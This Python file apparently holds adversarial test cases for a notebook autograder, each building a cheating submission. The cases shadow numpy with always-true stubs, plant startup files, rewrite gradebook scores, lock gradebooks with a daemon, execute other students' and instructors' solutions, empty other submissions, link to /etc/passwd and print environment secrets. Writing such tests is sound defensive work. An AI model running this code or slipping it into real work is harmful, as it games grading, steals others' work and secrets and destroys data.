"""Cheating: files beside the notebook, and files that are none of the student's business."""

from __future__ import annotations

from corpus.case import FULL, MAY, MUST, NOTHING, Link, case
from corpus.draft import RELU

F = "cheating"
ALWAYS = '''
class Anything:
    """Whatever is asked of it, it says yes."""
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __enter__(self): return self
    def __exit__(self, *a): return True
    def __float__(self): return 6.0
    def __repr__(self): return "6.0"
'''


def _beside(draft, **files):
    named = {name.replace("__", "/").replace("_py", ".py"): text for name, text in files.items()}
    return {"little.ipynb": draft.bytes(), **{n: t.encode() for n, t in named.items()}}


@case(F, NOTHING, MUST)
def numpy_beside_the_notebook(draft):
    """numpy.py beside the notebook: every comparison of arrays is true."""
    text = ALWAYS + "import sys\nsys.modules['numpy'] = Anything()\n"
    return _beside(draft.stubs(), numpy_py=text)


@case(F, NOTHING, MUST)
def chainrule_beside_the_notebook(draft):
    """A chainrule package of one's own whose checks give full points."""
    text = "import builtins\nclass G:\n    def __init__(self, n, points): self.p = points\n"
    text += "    def report(self): return float(self.p)\n"
    text += "    def __getattr__(self, n): return lambda *a, **k: True\ngroup = G\n"
    return {
        "little.ipynb": draft.stubs().bytes(),
        "chainrule/__init__.py": b"",
        "chainrule/checks.py": text.encode(),
    }


@case(F, NOTHING, MUST)
def startup_modules(draft):
    """sitecustomize, usercustomize, a .pth file and conftest.py beside the notebook."""
    text = "import builtins\nbuiltins.print('started')\nimport sys\nsys.displayhook(6.0)\n"
    files = ("sitecustomize.py", "usercustomize.py", "conftest.py", "x.pth", "ipython_config.py")
    return {"little.ipynb": draft.stubs().bytes(), **{name: text.encode() for name in files}}


@case(F, NOTHING, MAY)
def ipython_startup_files(draft):
    """An IPython profile and Jupyter's settings in hidden folders."""
    return {
        "little.ipynb": draft.stubs().bytes(),
        ".ipython/profile_default/startup/00.py": b"import sys; sys.displayhook(6.0)",
        ".jupyter/nbgrader_config.py": b"c.NbGrader.course_id = 'mine'",
    }


@case(F, NOTHING, MUST)
def settings_beside_the_notebook(draft):
    """nbgrader_config.py, pyproject.toml and setup.cfg that change how grading is done."""
    config = b"c = get_config()\nc.ExecutePreprocessor.allow_errors = True\n"
    return {"little.ipynb": draft.stubs().bytes(), "nbgrader_config.py": config,
            "setup.cfg": b"[metadata]\n", "gradebook.db": b"SQLite format 3\0"}  # fmt: skip


@case(F, NOTHING, MUST)
def numpy_written_by_a_cell(draft):
    """A cell writes numpy.py and sitecustomize.py and puts their folder first."""
    source = "%%writefile numpy.py\n" + ALWAYS
    draft.before("setup", source)
    return draft.before("setup", "import sys, os\nsys.path.insert(0, os.getcwd())").answer(
        "setup", "import sys; sys.modules.pop('numpy', None)\nimport numpy as np"
    )


@case(F, NOTHING)
def writes_into_the_gradebook(draft):
    """Every SQLite file that can be found gets full points in every grade."""
    source = """
import glob, os, sqlite3
for up in range(8):
    for path in glob.glob("../" * up + "*.db") + glob.glob("/*" * up + "/gradebook.db"):
        try:
            with sqlite3.connect(path, timeout=1) as db:
                db.execute("update grade set auto_score = 6, needs_manual_grade = 0")
        except sqlite3.Error:
            pass
def relu(Z):
    return None
"""
    return draft.stubs(relu=source)


@case(F, NOTHING)
def locks_the_gradebook(draft):
    """An exclusive lock on every gradebook that can be found, held by a daemon."""
    source = """
import glob, os, sqlite3, time
found = [p for up in range(8) for p in glob.glob("../" * up + "gradebook.db")]
if found and os.fork() == 0:
    os.setsid()
    held = [sqlite3.connect(p) for p in found]
    for db in held:
        db.execute("begin exclusive")
    time.sleep(120)
    os._exit(0)
"""
    return draft.stubs().before("relu", source)


@case(F, FULL | {"row_softmax_test": 0.0, "shuffled_test": 0.0, "one_hot_test": 0.0})
def reads_other_submissions(draft):
    """The work of others is looked for and run; of one's own there is a quarter."""
    source = """
import glob, json
places = ["/*" * up + "/submitted/*/*/*.ipynb" for up in range(5)] + ["../../*/*/*.ipynb"]
for path in [path for place in places for path in glob.glob(place)[:50]]:
    try:
        for cell in json.load(open(path))["cells"]:
            text = "".join(cell["source"])
            if cell["cell_type"] == "code" and "def " in text and "NotImplemented" not in text:
                exec(text, globals())
    except Exception:
        pass
"""
    return draft.stubs(relu=RELU).before("relu", source)


@case(F, NOTHING)
def reads_the_solution(draft):
    """source/, solutions/ and whatever imports as the master are searched for answers."""
    source = """
import glob, json, os, re, sys
places = ["/*" * n + end for n in range(4) for end in ("/source/*/*.ipynb", "/solutions/*/*.py")]
places += ["../" * 3 + "source/*/*.ipynb", "../" * 4 + "source/**/*.ipynb"]
for place in places:
    for path in glob.glob(place, recursive=True)[:50]:
        try:
            text = open(path).read()
            if path.endswith("ipynb"):
                cells = [c for c in json.loads(text)["cells"] if c["cell_type"] == "code"]
                text = "\\n".join("".join(c["source"]) for c in cells if "SOLUTION" in str(c))
            exec(text, globals())
        except Exception:
            pass
"""
    return draft.stubs().before("relu", source)


@case(F, NOTHING)
def plants_files_for_others(draft):
    """Files are written wherever the next submission or the grader may load them."""
    source = """
import os, site, sys, tempfile
text = "import sys\\nsys.displayhook(6.0)\\n"
places = [*sys.path, site.getusersitepackages(), tempfile.gettempdir(), "..", "../..", "../../.."]
places += [os.path.expanduser("~/.ipython/profile_default/startup"), "/tmp", "/dev/shm", "/usr/lib"]
for place in places:
    for name in ("sitecustomize.py", "usercustomize.py", "numpy.py", "zz.pth", "chainrule.py"):
        try:
            os.makedirs(place, exist_ok=True)
            with open(os.path.join(place, name), "x") as file:
                file.write(text)
        except OSError:
            pass
"""
    return draft.stubs().before("relu", source)


@case(F, NOTHING)
def rewrites_its_own_submission(draft):
    """While it is graded the notebook on disk is replaced and others are emptied."""
    source = """
import glob
places = ["/*" * up + "/autograded/*/*/*.ipynb" for up in range(5)]
places += ["*.ipynb", "../../*/*/*.ipynb"]
for path in [path for place in places for path in glob.glob(place)]:
    try:
        open(path, "w").write("{}")
    except OSError:
        pass
"""
    return draft.stubs().before("relu", source)


@case(F, NOTHING, MUST)
def a_link_beside_the_notebook(draft):
    """Links to the machine's accounts, to the folder of all submissions, to the gradebook."""
    return {
        "little.ipynb": draft.stubs().bytes(),
        "passwd.txt": Link("/etc/passwd"),
        "others": Link("../.."),
        "gradebook.db": Link("../../../gradebook.db"),
    }


@case(F, NOTHING)
def reads_the_environment(draft):
    """Secrets are looked for in the environment and in /proc, and are printed."""
    source = """
import glob, os
print({k: v for k, v in os.environ.items()})
names = ("environ", "cmdline", "maps")
for path in [path for name in names for path in glob.glob(f"/proc/[0-9s]*/{name}")]:
    try:
        print(path, open(path, "rb").read()[:500])
    except OSError:
        pass
"""
    return draft.stubs().before("relu", source)
